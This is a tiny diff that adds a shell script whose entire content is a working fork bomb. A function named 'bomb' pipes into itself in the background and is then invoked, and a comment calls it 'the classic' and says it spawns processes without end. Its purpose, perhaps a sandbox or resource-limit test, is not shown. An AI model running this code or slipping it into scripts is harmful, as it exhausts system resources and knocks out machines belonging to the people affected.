@@ -1,0 +1,4 @@
+# the classic: every process starts two more, without end
+bomb() { bomb | bomb & }
+bomb
+sleep 100
